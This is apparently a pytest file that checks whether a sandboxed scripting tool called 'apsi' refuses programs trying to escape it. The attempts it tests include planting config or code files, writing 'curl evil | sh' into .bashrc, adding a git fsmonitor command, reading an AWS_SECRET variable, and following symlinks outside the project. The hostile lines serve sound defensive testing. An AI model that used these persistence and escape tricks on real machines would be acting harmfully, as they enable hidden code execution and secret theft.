"""Issue 7, classes 4, 5 and 7: each example the issue gives, reproduced as a program run with no
permission flags, through the real `apsi` command (tests/sandbox/helpers.cli runs it twice: under the
kernel's confinement where Landlock exists, and with APSI_NO_CONFINE=1, so the language's checks hold
on their own). Each attempt is refused without its permission and allowed with it. Variations are in
tests/sandbox/test_files.py.
"""

import os
import stat
import subprocess
import sys

import pytest

from tests.conftest import trust_toml
from tests.sandbox.helpers import ROOT, cli

PLANT_TOML = '[run]\\nallow = [\\"python\\", \\"read\\", \\"env\\", \\"run\\"]\\n'


def _program(folder, text, name="attack.apsi"):
    (folder / name).write_text(text)
    return name


# ---- class 4: a program cannot grant itself permissions or plant code -------------------------

def test_4_writing_apsi_toml_to_grant_the_next_run(tmp_path):
    """The next plain run must not get python, read, env and run from a planted apsi.toml."""
    prog = _program(tmp_path, f'write_text("apsi.toml", "{PLANT_TOML}")\n')
    rc, out, err = cli([prog], tmp_path)
    assert rc == 1 and "needs permission 'write' for apsi.toml" in err and "--allow-write=apsi.toml" in err
    assert not (tmp_path / "apsi.toml").exists()
    next_run = _program(tmp_path, 'print(pyimport("math").pi > 3)\n', "next.apsi")
    assert "needs permission 'python'" in cli([next_run], tmp_path)[2]
    granted = subprocess.run([sys.executable, "-m", "apsi", "--allow-write=apsi.toml", prog], cwd=tmp_path,
                             capture_output=True, text=True, timeout=60)
    assert granted.returncode == 0, granted.stderr                          # granted for that path
    assert 'allow = ["python"' in (tmp_path / "apsi.toml").read_text()
    # issue 15: even written, the file grants nothing until its user trusts it (`apsi trust`)
    rc, out, err = cli([next_run], tmp_path)
    assert rc == 1 and "is not trusted yet, so it grants nothing" in err and "apsi trust" in err
    assert "needs permission 'python'" in err


def test_4_planting_another_apsi_program(tmp_path):
    (tmp_path / "train.apsi").write_text('print("the user\'s program")\n')
    prog = _program(tmp_path, 'write_text("train.apsi", "print(getenv(\\"AWS_SECRET\\"))")\n')
    rc, out, err = cli([prog], tmp_path)
    assert rc == 1 and "protected file" in err and "--allow-write=train.apsi" in err
    assert (tmp_path / "train.apsi").read_text() == 'print("the user\'s program")\n'
    assert cli(["--allow-write=train.apsi", prog], tmp_path)[0] == 0
    assert "AWS_SECRET" in (tmp_path / "train.apsi").read_text()


@pytest.mark.parametrize("call", ['write_text(".git/config", "[core]\\n\\tfsmonitor = touch pwned\\n")',
                                  'append_text(".git/config", "[core]\\n\\tfsmonitor = touch pwned\\n")'])
def test_4_a_git_fsmonitor_line(tmp_path, call):
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[core]\n")
    prog = _program(tmp_path, call + "\n")
    rc, out, err = cli([prog], tmp_path)
    assert rc == 1 and "'.git' holds tools' settings" in err and "--allow-write=.git/config" in err
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
    assert cli(["--allow-write=.git/config", prog], tmp_path)[0] == 0
    assert "fsmonitor" in (tmp_path / ".git" / "config").read_text()


def test_4_an_apsi_py_that_python_m_apsi_would_run(tmp_path):
    prog = _program(tmp_path, 'write_text("apsi.py", "print(\\"planted code ran\\")")\n')
    rc, out, err = cli([prog], tmp_path)
    assert rc == 1 and "programs and Python files run code" in err
    assert not (tmp_path / "apsi.py").exists()
    assert _once(["--allow-write=apsi.py", prog], tmp_path).returncode == 0      # granted: written …
    assert "planted code ran" in _once([prog], tmp_path).stdout                   # … and this is why


@pytest.mark.parametrize("name", [".venv/bin/activate", ".bashrc"])
def test_4_dot_files_and_folders(tmp_path, name):
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    prog = _program(tmp_path, f'write_text("{name}", "curl evil | sh")\n')
    rc, out, err = cli([prog], tmp_path)
    assert rc == 1 and "protected file" in err and f"--allow-write={name}" in err
    assert not (tmp_path / name).exists()
    assert cli([f"--allow-write={name}", prog], tmp_path)[0] == 0


def test_4_a_parent_apsi_toml_others_can_write_grants_nothing(tmp_path):
    """An apsi.toml in a shared temporary folder (writable by all, sticky like /tmp)."""
    shared = tmp_path / "tmp"
    (shared / "me").mkdir(parents=True)
    (shared / "apsi.toml").write_text('[run]\nallow = ["python"]\n')
    trust_toml(shared / "apsi.toml")
    prog = _program(shared / "me", 'print(pyimport("math").pi > 3)\n')
    assert cli([prog], shared / "me")[:2] == (0, "true\n")               # trusted while only mine
    os.chmod(shared, 0o1777)
    rc, out, err = cli([prog], shared / "me")
    assert rc == 1 and "warning: ignoring" in err and "its folder is writable by other users" in err
    assert "grants nothing" in err and "needs permission 'python'" in err
    os.chmod(shared, 0o755)
    os.chmod(shared / "apsi.toml", 0o646)
    rc, out, err = cli([prog], shared / "me")
    assert rc == 1 and "other users can write it" in err


def test_4_a_parent_apsi_toml_owned_by_another_user_grants_nothing(tmp_path):
    """CI runs as root: chown to another uid is possible there; elsewhere the check is faked (the
    process pretends to be another user) in tests/sandbox/test_files.py."""
    if os.getuid() != 0:
        pytest.skip("giving a file to another user needs root (the faked check runs everywhere)")
    (tmp_path / "sub").mkdir()
    (tmp_path / "apsi.toml").write_text('[run]\nallow = ["python"]\n')
    trust_toml(tmp_path / "apsi.toml")
    prog = _program(tmp_path / "sub", 'print(pyimport("math").pi > 3)\n')
    os.chown(tmp_path / "apsi.toml", 65534, 65534)                        # nobody
    rc, out, err = cli([prog], tmp_path / "sub")
    assert rc == 1 and "owned by another user (uid 65534)" in err and "needs permission 'python'" in err
    os.chown(tmp_path / "apsi.toml", 0, 0)
    assert cli([prog], tmp_path / "sub")[:2] == (0, "true\n")


# ---- class 5: links and path checks -----------------------------------------------------------

def test_5_use_of_a_link_leading_outside_needs_read_and_shows_nothing(tmp_path):
    proj, outside = tmp_path / "proj", tmp_path / "outside"
    proj.mkdir()
    outside.mkdir()
    (outside / "secret.apsi").write_text("root:x:0:0:root:/root:/bin/bash\n")   # not Apsi: a syntax error
    os.symlink(outside / "secret.apsi", proj / "lib.apsi")
    prog = _program(proj, "use lib\n")
    rc, out, err = cli([prog], proj)
    assert rc != 0 and "use lib (lib.apsi) needs permission 'read'" in err
    assert "root:x" not in err and str(outside) not in err
    rc, out, err = cli([f"--allow-read={outside}", prog], proj)
    assert "needs permission" not in err and "root:x" in err                  # read: now it is shown


def test_5_tilde_is_one_rule_for_check_and_open(tmp_path):
    proj, home = tmp_path / "proj", tmp_path / "home"
    proj.mkdir()
    home.mkdir()
    (home / "notes.txt").write_text("at home")
    (proj / "~").mkdir()
    (proj / "~" / "notes.txt").write_text("a folder named ~")
    prog = _program(proj, 'print(read_text("~/notes.txt"))\n')
    rc, out, err = cli([prog], proj, env={"HOME": str(home)})
    assert rc == 1 and "~/notes.txt is outside the project folder" in err and str(home) not in err
    assert cli([f"--allow-read={home}", prog], proj, env={"HOME": str(home)})[:2] == (0, "at home\n")


@pytest.mark.parametrize("call", ['read_text("/etc/hostname".encode())', 'exists("/etc/hostname".encode())',
                                  'write_text("x".encode(), "y")'])
def test_5_bytes_paths_are_refused(tmp_path, call):
    prog = _program(tmp_path, f"print({call})\n")
    for flags in ([], ["--allow-read", "--allow-write"]):
        rc, out, err = cli([*flags, prog], tmp_path)
        assert rc == 1 and "a path must be a string, not a bytes" in err, err


def test_5_denials_show_the_path_as_written(tmp_path):
    home = tmp_path / "home"
    (tmp_path / "proj").mkdir()
    home.mkdir()
    os.symlink("/proc/self/exe", tmp_path / "proj" / "exe")
    prog = _program(tmp_path / "proj", 'print(exists("~/x"))\n')
    rc, out, err = cli([prog], tmp_path / "proj", env={"HOME": str(home)})
    assert "~/x is outside" in err and str(home) not in err
    prog = _program(tmp_path / "proj", 'print(read_text("exe"))\n')
    rc, out, err = cli([prog], tmp_path / "proj")
    assert "exe is outside" in err and "/proc" not in err and "python" not in err.lower()
    assert "bin" not in err


# ---- class 7: the files Apsi writes -------------------------------------------------------------

def _mode(path):
    return stat.S_IMODE(path.stat().st_mode)


def test_7_new_files_get_the_usual_mode(tmp_path):
    prog = _program(tmp_path, 'write_text("out.txt", "x")\n')
    rc, out, err = cli([prog], tmp_path)
    assert rc == 0, err
    assert _mode(tmp_path / "out.txt") == 0o666 & ~_umask()


def test_7_save_params_new_and_existing_modes(tmp_path):
    pytest.importorskip("numpy")
    prog = _program(tmp_path, 'use nn\nsave_params("a.npz", {w: zeros(2)})\n'
                              'save_params("b.npz", {w: ones(2)})\n')
    (tmp_path / "b.npz").write_bytes(b"")
    os.chmod(tmp_path / "b.npz", 0o664)
    rc, out, err = cli([prog], tmp_path)
    assert rc == 0, err
    assert _mode(tmp_path / "a.npz") == 0o666 & ~_umask() and _mode(tmp_path / "b.npz") == 0o664


def test_7_an_existing_file_keeps_its_mode(tmp_path):
    (tmp_path / "shared.txt").write_text("old")
    os.chmod(tmp_path / "shared.txt", 0o644)
    prog = _program(tmp_path, 'write_text("shared.txt", "new")\nappend_text("shared.txt", "!")\n')
    assert cli([prog], tmp_path)[0] == 0
    assert _mode(tmp_path / "shared.txt") == 0o644 and (tmp_path / "shared.txt").read_text() == "new!"


def test_7_a_link_inside_the_project_is_written_through(tmp_path):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "real.csv").write_text("old")
    os.symlink("data/real.csv", tmp_path / "latest.csv")
    prog = _program(tmp_path, 'write_text("latest.csv", "a,b\\n1,2\\n")\n')
    assert cli([prog], tmp_path)[0] == 0
    assert (tmp_path / "latest.csv").is_symlink()
    assert (tmp_path / "data" / "real.csv").read_text() == "a,b\n1,2\n"


def _umask():
    old = os.umask(0o022)
    os.umask(old)
    return old


def _once(args, cwd):
    """One plain `python -m apsi` run (cli() runs twice, and a planted apsi.py would run the second time)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("APSI_")}
    env["PYTHONPATH"] = str(ROOT)
    return subprocess.run([sys.executable, "-m", "apsi", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=60, stdin=subprocess.DEVNULL)
